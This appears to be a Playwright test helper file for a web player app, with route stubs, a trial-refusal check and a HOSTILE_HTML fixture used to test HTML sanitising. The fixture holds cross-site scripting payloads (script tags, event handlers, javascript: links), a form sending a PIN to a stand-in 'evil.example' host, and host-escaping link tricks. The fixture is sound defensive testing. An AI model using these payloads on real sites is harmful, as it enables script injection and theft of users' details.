import type { Page } from '@playwright/test';
import { expect, withoutHomePopups } from './harness';
import { fetchThrough } from './route-fetch';

/** The footer menu of the player app. */
export const footer = (page: Page) => page.getByRole('navigation', { name: 'Main navigation' });

/** Serves the real start-up status with the member-centre template switched ('1' new, else base). */
export async function withMemberTemplate(page: Page, memCen: '0' | '1') {
  await page.route('**/wps/system/status*', async (route) => {
    const response = await fetchThrough(route);
    const body = (await response.json()) as { value: { info: { mobileTemplate: { mem_cen: string } } } };
    body.value.info.mobileTemplate.mem_cen = memCen;
    await route.fulfill({ response, json: body });
  });
}

/**
 * Server HTML with every trick we refuse: a script, event handlers, a form, a style, an image map, a
 * `javascript:` link, and paths that the browser would resolve to another host. Each one, if it ran, would set
 * `window.pwned`.
 */
export const HOSTILE_HTML = [
  '<p id="body" onclick="window.pwned=1" style="position:fixed;inset:0">Read carefully.</p>',
  '<script>window.pwned=2</script>',
  '<img src="/m/none.png" alt="broken" onerror="window.pwned=3">',
  '<svg><script>window.pwned=4</script></svg>',
  '<form action="https://evil.example/steal"><input name="pin" aria-label="PIN"><button>Send</button></form>',
  '<map name="m"><area href="https://evil.example/" alt="area"></map>',
  '<p><a href="javascript:window.pwned=5">Script link</a></p>',
  '<p><a href="/\\evil.example/">Backslash link</a></p>',
  '<p><a href="/\t/evil.example/">Tab link</a></p>',
  '<p><a href="//evil.example/">Host link</a></p>',
  '<p><a href="/m/help">Help link</a></p>',
  '<p><a href="https://help.example/terms">Terms link</a></p>',
].join('');

/** Answers any request to the stand-in outside sites, so an external link can open without a network. */
export async function stubOutsideSites(page: Page) {
  await page
    .context()
    .route(/https?:\/\/(help|evil)\.example\//, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>outside</title>' }),
    );
}

/** Starts a free trial, opens `path` by address, and expects free_reject, then home (spec section 6). */
export async function expectTrialRefused(page: Page, path: string) {
  await withoutHomePopups(page);
  await page.goto('/m/trail');
  await page.getByRole('button', { name: 'Start free trial' }).click();
  await expect(page).toHaveURL(/\/m\/home$/, { timeout: 20_000 });
  await page.goto(path);
  await expect(page.getByText('Please login an actual account to use this function')).toBeVisible({
    timeout: 20_000,
  });
  await expect(page).toHaveURL(/\/m\/home$/, { timeout: 10_000 });
}
